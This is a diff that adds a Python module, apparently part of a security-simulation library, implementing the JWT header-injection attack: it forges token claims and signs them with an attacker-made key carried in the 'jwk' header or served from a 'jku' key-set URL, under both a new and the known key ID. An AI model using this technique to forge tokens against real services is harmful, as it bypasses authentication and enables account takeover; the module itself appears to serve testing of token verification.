@@ -1,0 +1,55 @@
+"""The token brings its own key along, or says where to fetch it."""
+
+import json
+from collections.abc import Mapping
+from dataclasses import replace
+from typing import Any, ClassVar
+
+from simlib.attacks.base import JWKS_URI, Candidate, Handler, Inapplicable, OnTokens, Preparation
+from simlib.attacks.rewriting import rewritten, signs
+from simlib.scenario.effects import Context, Flow, Reply
+from simlib.scenario.messages import HttpRequest
+from simlib.tokens import SigningKey, generate_signing_key
+from simlib.tokens.forging import signed
+
+OWN_KID = "attacker"
+
+
+class HeaderInjection(OnTokens):
+    """``jwk`` and ``jku``, each under the known ``kid`` and under a new one."""
+
+    name: ClassVar[str] = "header_injection"
+    summary: ClassVar[str] = "forged claims, signed with a key that the header itself brings (jwk) or links to (jku)"
+    source: ClassVar[str] = "RFC 8725 sections 2.9 and 3.10; CVE-2018-0114, CVE-2025-24976"
+    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)
+
+    def prepare(self, ctx: Context) -> Flow[Preparation]:
+        """Rewrite and sign; the key set is served by `endpoints`."""
+        made = yield from rewritten(ctx, self.loot)
+        if isinstance(made, Inapplicable):
+            return made
+        own = _own_key(made.algorithm if signs(made.algorithm) else "RS256")
+        headers: dict[str, dict[str, Any]] = {"jwk": {"jwk": _bare(own)}, "jku": {"jku": JWKS_URI}}
+        return tuple(
+            Candidate(f"{name}, kid {kid}", made.seal(signed(made.claims, replace(own, kid=kid), typ=made.typ, **more)))
+            for name, more in headers.items()
+            for kid in (OWN_KID, made.kid)
+        )
+
+    def endpoints(self) -> Mapping[str, Handler]:
+        """The attacker's key set, with one key of each kind."""
+        return {JWKS_URI: _serve_keys}
+
+
+def _own_key(algorithm: str) -> SigningKey:
+    return generate_signing_key(algorithm, OWN_KID)
+
+
+def _bare(key: SigningKey) -> dict[str, str]:
+    return {name: value for name, value in key.verification_key.jwk.items() if name != "kid"}
+
+
+def _serve_keys(request: HttpRequest) -> Flow[Reply]:
+    yield from ()
+    keys = [dict(_own_key(algorithm).verification_key.jwk) for algorithm in ("RS256", "ES256", "EdDSA")]
+    return Reply(200, json.dumps({"keys": keys[:1]}).encode())
